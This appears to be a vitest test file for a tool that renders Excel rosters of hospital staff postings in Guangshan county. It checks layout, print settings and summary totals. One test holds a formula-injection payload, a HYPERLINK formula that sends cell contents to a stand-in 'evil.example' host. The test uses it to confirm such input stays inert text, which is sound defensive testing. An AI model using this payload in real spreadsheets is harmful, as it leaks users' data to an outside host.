// The roster workbook read back with exceljs: merges, text-typed phones, title row, print
// settings, formula-injection safety, byte-identical output.
import { beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { buildRosterReport, type RosterReport } from '../../src/reports/roster.js';
import { renderRosterXlsx, ROSTER_HEADERS } from '../../src/render/xlsx-roster.js';
import { displayWidth, isFormulaLike, safeText } from '../../src/render/xlsx-common.js';
import { entryData, readZipEntries } from '../../src/render/zip.js';
import { loadRosterExamples, type Example } from './helpers.js';

let gs: Example;
let report: RosterReport;
let wb: ExcelJS.Workbook;
let buf: Buffer;

beforeAll(async () => {
  gs = (await loadRosterExamples()).find((e) => e.dir === 'guangshan-2021')!;
  report = buildRosterReport({ alliance: gs.alliance, roster: gs.roster, resolveUnit: gs.resolveUnit });
  buf = await renderRosterXlsx(report);
  wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf);
});

describe('buildRosterReport', () => {
  it('has one section per lead unit and a summary of receiving units', () => {
    expect(report.sections.map((s) => [s.lead.name, s.rows.length])).toEqual([
      ['光山县人民医院', 14],
      ['光山县中医院', 9],
    ]);
    expect(report.title).toBe('光山县医疗服务集团下派人员名单');
    expect(report.subtitle).toContain('光医管委办[2021] 1号');
    const po = report.summary.units.find((u) => u.unit.name === '光山县中医院泼河镇分院')!;
    expect(po).toMatchObject({ count: 2, people: ['林承福', '曾文武'], lead: '光山县中医院', member: true });
    const row = report.sections[1]!.rows.find((r) => r.name === '曾文武')!;
    expect(row).toMatchObject({ seq: 2, target: '光山县中医院泼河镇分院', targetId: 'pohe', start: '2021-05-01', end: '2022-04-30' });
    expect(report.summary.people).toBe(23);
  });

  it('keeps only assignments active on --as-of unless --all', () => {
    const roster = {
      ...gs.roster,
      assignments: [
        ...gs.roster.assignments,
        { person: '刘鹏飞', target: '晏河', start: '2022-05-01' }, // open-ended second posting
      ],
    };
    const at = (asOf: string, all = false) => buildRosterReport({ alliance: gs.alliance, roster, resolveUnit: gs.resolveUnit, asOf, all });
    expect(at('2021-06-01').summary.assignments).toBe(23);
    expect(at('2030-01-01').summary.assignments).toBe(1);
    expect(at('2030-01-01').summary.uncovered.length).toBe(gs.alliance.units.filter((u) => u.role !== 'lead').length - 1);
    expect(at('2030-01-01', true).summary.assignments).toBe(24);
    expect(at('2030-01-01').subtitle).toContain('截至 2030-01-01');
  });

  it('names member units receiving nobody', () => {
    const roster = { ...gs.roster, assignments: gs.roster.assignments.filter((a) => a.person !== '陈娥') };
    const r = buildRosterReport({ alliance: gs.alliance, roster, resolveUnit: gs.resolveUnit });
    expect(r.summary.uncovered.map((u) => u.name)).toContain('光山县中医院白奎分院');
  });
});

describe('renderRosterXlsx', () => {
  it('writes one sheet per lead unit plus 汇总', () => {
    expect(wb.worksheets.map((w) => w.name)).toEqual(['光山县人民医院', '光山县中医院', '汇总']);
  });

  it('title row, header, merged lead column', () => {
    const ws = wb.getWorksheet('光山县中医院')!;
    expect(ws.getCell('A1').value).toBe('光山县医疗服务集团 光山县中医院下派人员名单');
    expect(String(ws.getCell('A2').value)).toContain('光医管委办[2021] 1号');
    const merges = (ws.model as unknown as { merges: string[] }).merges;
    expect(merges).toEqual(expect.arrayContaining(['A1:K1', 'A2:K2', 'A4:A12']));
    expect((ws.getRow(3).values as unknown[]).slice(1)).toEqual([...ROSTER_HEADERS]);
    expect(ws.getCell('A4').value).toBe('光山县中医院');
    expect(ws.getCell('A9').isMerged).toBe(true);
    expect(ws.getCell('A9').master.address).toBe('A4');
  });

  it('phones are text cells with the @ format; dates are real dates of the same day', () => {
    const ws = wb.getWorksheet('光山县人民医院')!;
    for (let r = 4; r <= 17; r++) {
      const c = ws.getCell(r, 7);
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(typeof c.value).toBe('string');
      expect(c.value).toMatch(/^1\d{10}$/);
      expect(c.numFmt).toBe('@');
    }
    const start = ws.getCell('I4');
    expect(start.value).toBeInstanceOf(Date);
    expect((start.value as Date).toISOString()).toBe('2021-05-01T00:00:00.000Z');
    expect(start.numFmt).toBe('yyyy-mm-dd');
    // CJK-aware widths: 下派单位 holds the longest names, so it is the widest column; where the
    // page needs it narrower, the longest name wraps into a row tall enough for it
    const widths = ws.columns.map((c) => c.width ?? 0);
    expect(Math.max(...widths)).toBe(ws.getColumn(8).width);
    const longest = displayWidth('光山县人民医院大苏山森林公园管理区分院');
    if (ws.getColumn(8).width! < longest) {
      let r = 4;
      while (ws.getCell(r, 8).value !== '光山县人民医院大苏山森林公园管理区分院') r++;
      expect(ws.getCell(r, 8).alignment?.wrapText).toBe(true);
      expect(ws.getRow(r).height).toBeGreaterThanOrEqual(32);
    }
  });

  it('print settings: A4 landscape at an explicit scale (test/print checks it against the fonts), header repeated and frozen', () => {
    for (const ws of wb.worksheets) {
      expect(ws.pageSetup.paperSize).toBe(9);
      expect(ws.pageSetup.orientation).toBe('landscape');
      expect(ws.pageSetup.fitToPage).toBeFalsy();
      expect(ws.pageSetup.scale).toBeGreaterThanOrEqual(82);
      expect(ws.pageSetup.printTitlesRow).toBe('3:3');
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    }
  });

  it('the summary sheet names receiving units and the gaps', () => {
    const roster = { ...gs.roster, assignments: gs.roster.assignments.filter((a) => a.person !== '陈娥') };
    return (async () => {
      const w = new ExcelJS.Workbook();
      await w.xlsx.load(await renderRosterXlsx(buildRosterReport({ alliance: gs.alliance, roster, resolveUnit: gs.resolveUnit })));
      const ws = w.getWorksheet('汇总')!;
      const rows: unknown[][] = [];
      ws.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
      const baikui = rows.find((r) => r[1] === '光山县中医院白奎分院')!;
      expect(baikui[3]).toBe(0);
      expect(baikui[5]).toBe('未覆盖');
      const pohe = rows.find((r) => r[1] === '光山县中医院泼河镇分院')!;
      expect(pohe.slice(2, 5)).toEqual(['光山县中医院', 2, '林承福、曾文武']);
      expect(rows.some((r) => String(r[0]).startsWith('未覆盖：') && String(r[0]).includes('白奎'))).toBe(true);
    })();
  });

  it('text that looks like a formula stays inert text', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    const roster = {
      ...gs.roster,
      people: [...gs.roster.people, { name: evil, unit: '光山县中医院', specialty: '+1', title: '@SUM(A1)', phone: '-13800000001' }],
      assignments: [...gs.roster.assignments, { person: evil, target: '泼河', start: '2021-05-01' }],
    };
    const out = await renderRosterXlsx(buildRosterReport({ alliance: gs.alliance, roster, resolveUnit: gs.resolveUnit }));
    const w = new ExcelJS.Workbook();
    await w.xlsx.load(out);
    const ws = w.getWorksheet('光山县中医院')!;
    let row = 0;
    ws.eachRow((r, i) => (r.getCell(3).value === evil ? (row = i) : undefined));
    expect(row).toBeGreaterThan(0);
    for (const c of [3, 5, 6, 7]) {
      const cell = ws.getCell(row, c);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    }
    const entries = readZipEntries(out);
    const sheetXml = entries.filter((e) => e.name.startsWith('xl/worksheets/sheet')).map((e) => entryData(e).toString()).join('');
    expect(sheetXml).not.toContain('<f>');
    // the cell style carries Excel's own "typed with a leading apostrophe" flag
    const styles = entryData(entries.find((e) => e.name === 'xl/styles.xml')!).toString();
    expect(styles).toMatch(/<xf [^>]*numFmtId="49"[^>]*quotePrefix="1"/);
    expect(isFormulaLike(evil) && isFormulaLike('\tx') && isFormulaLike('＝1') && !isFormulaLike('刘鹏飞')).toBe(true);
    expect(safeText({ formula: 'A1' })).toBe('[object Object]');
  });

  it('is byte-identical across renders (zip timestamps pinned, workbook dates fixed)', async () => {
    await new Promise((r) => setTimeout(r, 2100)); // DOS timestamps have 2-second resolution
    const again = await renderRosterXlsx(report);
    expect(again.equals(buf)).toBe(true);
    expect(wb.creator).toBe('yilian');
    expect(wb.created.toISOString()).toBe('2021-04-30T00:00:00.000Z');
  });

  it('the 汇总 sheet\'s 合计 row shows the model\'s summary.received, the sum of the units\' counts', () => {
    expect(report.summary.received).toBe(report.summary.units.reduce((n, u) => n + u.count, 0));
    const ws = wb.getWorksheet('汇总')!;
    let total: unknown;
    ws.eachRow((row) => {
      if (row.getCell(2).value === '合计') total = row.getCell(4).value;
    });
    expect(total).toBe(report.summary.received);
  });
});
